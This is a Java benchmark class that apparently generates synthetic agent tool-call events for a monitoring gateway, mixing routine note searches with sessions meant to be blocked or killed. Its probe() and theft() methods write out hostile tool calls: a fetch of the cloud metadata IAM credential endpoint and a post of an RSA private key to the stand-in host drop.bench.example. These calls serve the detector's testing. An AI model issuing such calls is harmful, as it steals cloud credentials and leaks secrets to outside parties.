package io.driftwarden.deploy.bench;

import io.driftwarden.contract.SessionStarted;
import io.driftwarden.contract.ToolCalled;
import io.driftwarden.contract.ToolReturned;
import io.driftwarden.contract.TrustEvent;
import java.time.Instant;
import java.util.UUID;

/** Events of sessions that do ordinary work, and of such as are to be killed. Used by one thread. */
final class BenchEvents {
    /** Sessions that work side by side. */
    private static final int SESSIONS = 50;

    private static final String SERVER = "notes";
    private static final String RESULT =
            "[{\"type\":\"text\",\"text\":\"Meeting of the week: the release is due on Thursday, the review on Wednesday. "
                    + "Open points are the changelog, two flaky tests and the new logo.\"}]";

    private final String run = UUID.randomUUID().toString().substring(0, 8);
    private long count;

    /** The next event of the next session: a call, or what it returned. */
    TrustEvent next() {
        long number = count++;
        String session = "work-" + run + '-' + number % SESSIONS;
        String call = "c-" + number / SESSIONS / 2;
        return number / SESSIONS % 2 == 0
                ? called(session, call, "search_notes", "{\"query\":\"what is due this week\",\"limit\":10}")
                : event(session, "tool.returned")
                        .setToolReturned(ToolReturned.newBuilder()
                                .setCallId(call)
                                .setServer(SERVER)
                                .setTool("search_notes")
                                .setOutcome("ok")
                                .setContent(RESULT)
                                .build())
                        .build();
    }

    String victim(int number) {
        return "victim-" + run + '-' + number;
    }

    TrustEvent started(String session) {
        return event(session, "session.started")
                .setSessionStarted(SessionStarted.newBuilder()
                        .setPrincipal("bench@driftwarden")
                        .setAgent("bench")
                        .setGateway("bench-a")
                        .build())
                .build();
    }

    /** A first offence: it blocks. */
    TrustEvent probe(String session) {
        return called(session, "c-1", "fetch_url", "{\"url\":\"http://169.254.169.254/latest/meta-data/iam/\"}");
    }

    /** A second one of another kind: it kills. */
    TrustEvent theft(String session) {
        return called(
                session,
                "c-2",
                "post_message",
                "{\"url\":\"https://drop.bench.example/in\",\"text\":\"-----BEGIN RSA PRIVATE KEY----- MIIEow\"}");
    }

    TrustEvent harmless(String session) {
        return called(session, "c-3", "search_notes", "{\"query\":\"lunch\"}");
    }

    private TrustEvent called(String session, String call, String tool, String arguments) {
        return event(session, "tool.called")
                .setToolCalled(ToolCalled.newBuilder()
                        .setCallId(call)
                        .setServer(SERVER)
                        .setTool(tool)
                        .setArguments(arguments)
                        .build())
                .build();
    }

    private static TrustEvent.Builder event(String session, String type) {
        return TrustEvent.newBuilder()
                .setId(UUID.randomUUID().toString())
                .setSource("gateway/bench")
                .setType("io.driftwarden." + type)
                .setTime(Instant.now().toString())
                .setSubject(session);
    }
}
